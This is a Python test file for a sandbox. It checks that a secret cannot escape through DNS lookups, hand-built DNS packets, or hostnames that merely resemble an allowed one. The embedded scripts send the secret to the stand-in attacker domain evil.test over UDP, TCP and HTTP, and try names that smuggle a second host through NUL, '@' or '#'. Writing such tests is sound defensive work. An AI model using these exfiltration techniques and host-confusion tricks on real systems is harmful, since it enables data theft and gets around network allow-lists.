"""A secret cannot leave in a name: neither looked up, nor by hand, nor by one that looks permitted."""

from __future__ import annotations

import pytest

from support.net_alone import lookups_alone, why_not_alone
from support.net_dns import NameServer, TcpNameServer
from support.net_leaks import SECRET, hints, leak
from support.net_runs import ALLOWED, GRANTS, on_every_backend
from support.net_servers import TalkativeSink

TYPE_CHECKING = False
if TYPE_CHECKING:
    from support.net_runs import Place

# A packet by hand for SECRET.evil.test, to the sandbox's own name server, and to that of the test.
_BY_HAND = """
name = "%s.evil.test" % SECRET
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
def question(kind):
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + bytes(1) + struct.pack(">HH", kind, 1)
def by_packet(where, kind=1):
    target = there(*where)
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        client.connect(target)  # so that a refusal is heard at once
        client.send(question(kind))
        return client.recv(4096)
def by_stream(where, kind=1):
    with socket.create_connection(there(*where), 2) as client:
        client.sendall(struct.pack(">H", len(question(kind))) + question(kind))
        return listen(client)
"""


@on_every_backend
def test_by_a_hand_made_question(place: Place) -> None:
    """To the name server of the sandbox, of each kind of record, and to any that it may find elsewhere."""
    script = f"""{_BY_HAND}
for server in [("127.0.0.1", 53), packets, ("192.0.2.53", 53), ("::1", 53)]:
    for kind in (1, 28, 16, 15, 255):
        attempt(lambda: by_packet(server, kind))
for server in [("127.0.0.1", 5300), ("127.0.0.1", 53), streams]:
    attempt(lambda: by_stream(server))
"""
    with NameServer() as packets, TcpNameServer() as streams:
        for server in ("127.0.0.1", "192.0.2.53", "::1"):
            place.site.names.lead(server, 53, packets.where)
        leak(place, script, packets, streams, packets=packets.where, streams=streams.where)


@pytest.mark.parametrize("name", ["native", "bubblewrap", "landlock"])
def test_by_a_lookup(name: str) -> None:
    """In a network of one's own, whose only name server is the test's; corral asks it as well."""
    reason = why_not_alone(name)
    if reason:
        pytest.skip(reason)

    alone = lookups_alone(name)

    assert any(SECRET in asked for asked in alone.control), f"the control leaks nothing: {alone}"
    assert alone.output.startswith("alive"), f"the sandbox has no network at all: {alone}"
    assert ALLOWED in alone.confined, f"not even the permitted name was asked for: {alone}"
    assert set(alone.confined) == {ALLOWED}


_TO_EACH_NAME = """
for name in names:
    def send():
        with dial(name, 80) as stream:
            get(stream, name, "/" + SECRET)
            return listen(stream)
    attempt(send)
"""
_ALIKE = (
    f"{ALLOWED}.evil.test",
    f"evil{ALLOWED}",
    f"evil-{ALLOWED}",
    "api.example.test-evil.test",
    f"{SECRET}.{ALLOWED}",
    "example.test",
    "api-example.test",
)


@on_every_backend
def test_by_a_name_that_looks_permitted(place: Place) -> None:
    with TalkativeSink() as sink:
        for name in _ALIKE:
            place.site.names.lead(name, 80, sink.where)

        result = leak(place, _TO_EACH_NAME, sink, names=_ALIKE)

    assert set(place.site.names.asked) == {ALLOWED}
    assert [name for name in _ALIKE if not any(hint.endswith(f":{name}") for hint in hints(result))] == []


@on_every_backend
def test_by_a_name_that_a_wildcard_is_not_about(place: Place) -> None:
    """`*.api.example.test` is for what lies beneath; here nothing does but what is denied by name."""
    beneath = (f"network:https:*.{ALLOWED}", f"network:http:*.{ALLOWED}", f"network:deny:deep.{ALLOWED}")
    names = [f"deep.{ALLOWED}", f"evil{ALLOWED}", ALLOWED.removeprefix("api."), "evil.test"]
    with TalkativeSink() as sink:
        for name in names:
            place.site.names.lead(name, 80, sink.where)

        leak(place, _TO_EACH_NAME, sink, names=names, grants=(*GRANTS, *beneath))

    assert set(place.site.names.asked) == {ALLOWED}


@on_every_backend
def test_by_a_name_with_a_nul_or_an_at_sign(place: Place) -> None:
    """Two names in one text, of which one reader sees the permitted one and another one does not."""
    names = [
        f"evil.test\0.{ALLOWED}",
        f"evil.test\0{ALLOWED}",
        f"{ALLOWED}\0.evil.test",
        f"{ALLOWED}@evil.test",
        f"evil.test@{ALLOWED}",
        f"evil.test#{ALLOWED}",
        f"evil.test/{ALLOWED}",
        f"evil.test {ALLOWED}",
    ]
    with TalkativeSink() as sink:
        for name in ("evil.test", *names):
            place.site.names.lead(name, 80, sink.where)

        leak(place, _TO_EACH_NAME, sink, names=names)

    assert set(place.site.names.asked) == {ALLOWED}
